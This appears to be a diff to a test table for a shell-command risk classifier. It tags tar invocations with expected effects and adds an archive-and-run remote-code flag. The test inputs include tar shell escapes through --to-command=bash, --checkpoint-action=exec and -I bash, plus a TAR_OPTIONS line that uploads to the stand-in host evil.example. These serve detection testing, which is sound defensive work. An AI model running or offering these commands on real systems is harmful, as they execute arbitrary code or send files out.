@@ -15,13 +15,19 @@ table("archives", archives, [
   ["tar xOf a.tar", ["read a.tar"]],
   ["tar tvzf a.tgz", ["read a.tgz"]],
   ["tar -tf a.tar", ["read a.tar"]],
-  ["tar xf a.tar --to-command=bash", ["read a.tar", "shell bash"]],
+  ["tar xf a.tar --to-command=bash", ["unknown !remote-code:3:archive-and-run", "read a.tar", "shell bash"]],
   [
     "tar cf a.tar x --checkpoint=1 --checkpoint-action=exec=/bin/sh",
-    ["write a.tar", "read x recursive", "shell /bin/sh"],
+    ["unknown !remote-code:3:archive-and-run", "write a.tar", "read x recursive", "shell /bin/sh"],
   ],
-  ["tar xf a.tar --checkpoint-action exec=sh", ["read a.tar", "shell sh", "write . recursive"]],
-  ["tar -I bash -xf a.tar", ["shell bash", "read a.tar", "write . recursive"]],
+  [
+    "tar xf a.tar --checkpoint-action exec=sh",
+    ["unknown !remote-code:3:archive-and-run", "read a.tar", "shell sh", "write . recursive"],
+  ],
+  [
+    "tar -I bash -xf a.tar",
+    ["unknown !remote-code:3:archive-and-run", "shell bash", "read a.tar", "write . recursive"],
+  ],
   ["tar --use-compress-program=zstd -tf a", ["shell zstd", "read a"]],
   ["tar xf a.tar --new-volume-script=/tmp/e.sh", ["shell /tmp/e.sh", "read a.tar", "write . recursive"]],
   ["TAR_OPTIONS='--create --file=evil.example:/a' tar -- k", ["network evil.example upload", "read k recursive"]],
